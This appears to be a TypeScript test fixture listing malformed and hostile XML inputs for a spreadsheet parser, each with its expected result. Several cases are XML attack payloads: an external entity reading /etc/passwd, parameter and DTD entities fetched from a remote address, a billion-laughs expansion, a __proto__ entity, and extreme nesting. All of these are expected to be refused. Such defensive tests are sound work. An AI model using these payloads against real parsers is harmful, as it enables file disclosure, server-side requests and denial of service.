/** XML that reaches out, grows or breaks. */
import { cell, makeBook, row, strings, worksheet } from './book.ts';
import { kind, refused, rows, type Kind } from './kind.ts';

const sheet = (xml: string | Buffer) => makeBook({ sheet: xml });
const plain = worksheet(row(1, cell('A1', 'x')));
const good = rows({ 1: ['x'] });
const part = 'xl/worksheets/sheet1.xml';
const head = '<?xml version="1.0"?>';

/** Digits that do not shrink, so that it is not the ratio that refuses them. */
const noise = (length: number) => {
  let seed = 7;
  const digits = Buffer.alloc(length);
  for (let at = 0; at < length; at += 1) {
    seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
    digits[at] = 48 + ((seed >> 16) % 10);
  }
  return digits.toString();
};

const laughs = Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

export const xmlKinds: Kind[] = [
  kind('XXE from a file', refused('xmlDoctype'), () =>
    sheet(
      `${head}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${worksheet(row(1, cell('A1', '&e;'))).slice(38)}`,
    ),
  ),
  kind('XXE by parameter entity', refused('xmlDoctype'), () =>
    sheet(`${head}<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><worksheet/>`),
  ),
  kind('XXE in the workbook', refused('xmlDoctype', 'xl/workbook.xml'), () =>
    makeBook({ parts: { 'xl/workbook.xml': `${head}<!DOCTYPE x SYSTEM "http://192.0.2.1/x"><workbook/>` } }),
  ),
  kind('billion laughs', refused('xmlDoctype'), () =>
    sheet(`${head}<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]><worksheet>&l10;</worksheet>`),
  ),
  kind('an entity nobody declared', refused('xmlEntity', '销售!A1'), () =>
    sheet(worksheet(row(1, cell('A1', '&secret;')))),
  ),
  kind('a bare ampersand', refused('xmlEntity'), () => sheet(worksheet(row(1, cell('A1', 'a & b'))))),
  kind('a character beyond Unicode', refused('xmlEntity'), () => sheet(worksheet(row(1, cell('A1', '&#x110000;'))))),
  kind('an entity called __proto__', refused('xmlEntity'), () => sheet(worksheet(row(1, cell('A1', '&__proto__;'))))),
  kind('a NUL by its number', rows({ 1: ['ab'] }), () => sheet(worksheet(row(1, cell('A1', 'a&#0;b'))))),
  kind('half a surrogate pair', rows({ 1: ['a\ufffd'] }), () => sheet(worksheet(row(1, cell('A1', 'a&#xD800;'))))),
  kind('the five entities and CDATA', rows({ 1: ['<&>"\'中<b>'] }), () =>
    sheet(worksheet(row(1, cell('A1', '&lt;&amp;&gt;&quot;&apos;&#x4e2d;<![CDATA[<b>]]>')))),
  ),
  kind('a comment inside a value', rows({ 1: [12] }), () =>
    sheet(worksheet(row(1, '<c r="A1"><v>1<!-- <v>9</v> -->2</v></c>'))),
  ),
  kind('cut off inside a tag', refused('damaged'), () => sheet(plain.slice(0, -30))),
  kind('a tag that is never closed', refused('damaged', '销售!1:1'), () => sheet(plain.replace('</row>', ''))),
  kind('closing tags in the wrong order', refused('damaged'), () =>
    sheet(worksheet('<row r="1"><c r="A1"><v>1</c></v></row>')),
  ),
  kind('two roots', refused('damaged'), () => sheet(`${plain}<worksheet/>`)),
  kind('text behind the root', refused('damaged'), () => sheet(`${plain}x`)),
  kind('no root', refused('damaged'), () => sheet(head)),
  kind('an empty part', refused('damaged', '销售'), () => sheet('')),
  kind('attributes without quotes', refused('damaged'), () => sheet(worksheet('<row r=1/>'))),
  kind('an attribute twice', refused('damaged'), () => sheet(worksheet('<row r="1" r="2"/>'))),
  kind('attributes in single quotes, spread over lines', good, () =>
    sheet(worksheet("<row\n r = '1'\n><c t='inlineStr'\tr='A1' ><is><t>x</t></is></c ></row >")),
  ),
  kind('a bracket inside an attribute', good, () =>
    sheet(worksheet('<row r="1" x="a>b"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>')),
  ),
  kind('100,000 elements within each other', refused('tooDeep'), () =>
    sheet(worksheet(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`)),
  ),
  kind('one tag of 5 MB', refused('damaged'), () => sheet(worksheet(`<row r="1" x="${noise(5_000_000)}"/>`))),
  kind('100,000 attributes', good, () =>
    sheet(
      worksheet(
        `<row r="1" ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(' ')}>${cell('A1', 'x')}</row>`,
      ),
    ),
  ),
  kind('a BOM', good, () => sheet(`\ufeff${plain}`)),
  kind('UTF-16LE', good, () => sheet(Buffer.from(`\ufeff${plain.replace('UTF-8', 'UTF-16')}`, 'utf16le'))),
  kind('UTF-16BE', good, () => sheet(Buffer.from(`\ufeff${plain.replace('UTF-8', 'UTF-16')}`, 'utf16le').swap16())),
  kind('bytes that are no UTF-8', refused('encoding', part), () =>
    sheet(Buffer.concat([Buffer.from(plain.slice(0, -1)), Buffer.from([0xff, 0xfe, 0x3e])])),
  ),
  kind('a prefix on every element', rows({ 1: ['x', 7] }), () =>
    sheet(
      worksheet(row(1, cell('A1', 'x'), cell('B1', 7)))
        .replace(/<(\/?)(?=\w)/g, '<$1x:')
        .replace('xmlns=', 'xmlns:x='),
    ),
  ),
  kind('the strict namespace', rows({ 1: ['文'] }), () =>
    makeBook({
      sheet: worksheet(row(1, '<c r="A1" t="s"><v>0</v></c>')).replace(
        'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
        'http://purl.oclc.org/ooxml/spreadsheetml/main',
      ),
      strings: strings('<t>文</t>').replace(
        'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
        'http://purl.oclc.org/ooxml/spreadsheetml/main',
      ),
      parts: {
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
      },
    }),
  ),
];
